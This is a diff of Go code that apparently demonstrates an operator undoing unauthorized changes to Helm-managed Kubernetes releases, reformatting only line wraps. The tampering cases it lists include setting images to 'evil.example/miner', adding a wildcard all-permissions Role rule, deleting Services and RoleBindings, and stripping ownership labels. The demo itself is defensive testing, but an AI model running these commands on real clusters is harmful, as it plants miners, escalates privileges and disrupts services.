@@ -36,16 +36,22 @@ func (d *demo) tamperWithShop(ctx context.Context) error {
 	d.screen.act("Tamper with the release of Helm 3")
 	kubectl := func(args ...string) []string { return append([]string{"kubectl", "-n", shop.namespace}, args...) }
 	err := d.tamper(ctx, shop,
-		tampering{what: "edit a ConfigMap key", kind: "ConfigMap", name: "shop", args: patch(shop, "configmap/shop", `{"data":{"greeting":"Closed"}}`)},
+		tampering{what: "edit a ConfigMap key", kind: "ConfigMap", name: "shop",
+			args: patch(shop, "configmap/shop", `{"data":{"greeting":"Closed"}}`)},
 		tampering{what: "edit a Secret key", kind: "Secret", name: "shop", secret: "hunter2",
 			args: patch(shop, "secret/shop", `{"stringData":{"password":"hunter2"}}`)},
-		tampering{what: "change an image", kind: "Deployment", name: "shop-web", args: kubectl("set", "image", "deployment/shop-web", "web=evil.example/miner")},
-		tampering{what: "scale (/scale)", kind: "Deployment", name: "shop-web", args: kubectl("scale", "deployment/shop-web", "--replicas=0")},
-		tampering{what: "delete a Service", kind: "Service", name: "shop-web", args: kubectl("delete", "service/shop-web")},
-		tampering{what: "remove a label", kind: "ServiceAccount", name: "shop", args: kubectl("label", "serviceaccount/shop", "app.kubernetes.io/part-of-")},
+		tampering{what: "change an image", kind: "Deployment", name: "shop-web",
+			args: kubectl("set", "image", "deployment/shop-web", "web=evil.example/miner")},
+		tampering{what: "scale (/scale)", kind: "Deployment", name: "shop-web",
+			args: kubectl("scale", "deployment/shop-web", "--replicas=0")},
+		tampering{what: "delete a Service", kind: "Service", name: "shop-web",
+			args: kubectl("delete", "service/shop-web")},
+		tampering{what: "remove a label", kind: "ServiceAccount", name: "shop",
+			args: kubectl("label", "serviceaccount/shop", "app.kubernetes.io/part-of-")},
 		tampering{what: "rename a port", kind: "Service", name: "shop-web",
 			args: edit(shop, "service/shop-web", `[{"op":"replace","path":"/spec/ports/0/name","value":"web"}]`)},
-		tampering{what: "strip Helm's ownership label", kind: "Ingress", name: "shop", args: kubectl("label", "ingress/shop", "app.kubernetes.io/managed-by-")},
+		tampering{what: "strip Helm's ownership label", kind: "Ingress", name: "shop",
+			args: kubectl("label", "ingress/shop", "app.kubernetes.io/managed-by-")},
 		tampering{what: "raise an autoscaler's maximum", kind: "HorizontalPodAutoscaler", name: "shop-worker",
 			args: patch(shop, "hpa/shop-worker", `{"spec":{"maxReplicas":100}}`)},
 	)
@@ -63,10 +69,14 @@ func (d *demo) tamperWithBakery(ctx context.Context) error {
 	d.screen.act("Tamper with the release of Helm 4 (server-side apply)")
 	kubectl := func(args ...string) []string { return append([]string{"kubectl", "-n", bakery.namespace}, args...) }
 	return d.tamper(ctx, bakery,
-		tampering{what: "edit a custom resource", kind: "Oven", name: "bakery", args: patch(bakery, "oven/bakery", `{"spec":{"temperature":900}}`)},
+		tampering{what: "edit a custom resource", kind: "Oven", name: "bakery",
+			args: patch(bakery, "oven/bakery", `{"spec":{"temperature":900}}`)},
 		tampering{what: "add a rule to a Role", kind: "Role", name: "bakery",
-			args: edit(bakery, "role/bakery", `[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`)},
-		tampering{what: "delete a RoleBinding", kind: "RoleBinding", name: "bakery", args: kubectl("delete", "rolebinding/bakery")},
+			args: edit(
+				bakery, "role/bakery", `[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`,
+			)},
+		tampering{what: "delete a RoleBinding", kind: "RoleBinding", name: "bakery",
+			args: kubectl("delete", "rolebinding/bakery")},
 		tampering{what: "change a port's number", kind: "Service", name: "bakery",
 			args: edit(bakery, "service/bakery", `[{"op":"replace","path":"/spec/ports/0/port","value":9999}]`)},
 		tampering{what: "remove a ConfigMap key", kind: "ConfigMap", name: "bakery",
@@ -115,8 +125,8 @@ func (d *demo) reverted(ctx context.Context, since observe.Mark, r release, t ta
 	return nil
 }
 
-// lived returns how long a change lived: from the API server's answer to whoever made it (or from its arrival on the watch,
-// should that be earlier: on a busy machine either can be late) to the arrival of the restored object.
+// lived returns how long a change lived: from the API server's answer to whoever made it (or from its arrival on
+// the watch, should that be earlier: on a busy machine either can be late) to the arrival of the restored object.
 func (d *demo) lived(e observe.Episode) (time.Duration, error) {
 	answered, err := d.audit.tampered(e.ID.Namespace, e.ID.Name)
 	if err != nil {
@@ -157,10 +167,13 @@ func (d *demo) tamperDuringDowntime(ctx context.Context) error {
 	d.screen.line("operator", "ended with exit code 0 after "+milliseconds(time.Since(began)))
 	since := d.watch.Now()
 	tamperings := []tampering{
-		{what: "edit while down", kind: "ConfigMap", name: "shop", args: patch(shop, "configmap/shop", `{"data":{"currency":"DOGE"}}`)},
-		{what: "delete while down", kind: "Ingress", name: "shop", args: []string{"kubectl", "-n", shop.namespace, "delete", "ingress/shop"}},
+		{what: "edit while down", kind: "ConfigMap", name: "shop",
+			args: patch(shop, "configmap/shop", `{"data":{"currency":"DOGE"}}`)},
+		{what: "delete while down", kind: "Ingress", name: "shop",
+			args: []string{"kubectl", "-n", shop.namespace, "delete", "ingress/shop"}},
 		{what: "change an image while down", kind: "Deployment", name: "shop-worker",
-			args: []string{"kubectl", "-n", shop.namespace, "set", "image", "deployment/shop-worker", "worker=evil.example/miner"}},
+			args: []string{"kubectl", "-n", shop.namespace, "set", "image", "deployment/shop-worker",
+				"worker=evil.example/miner"}},
 	}
 	for _, t := range tamperings {
 		if _, err := d.shell.show(ctx, "person", "", t.args...); err != nil {
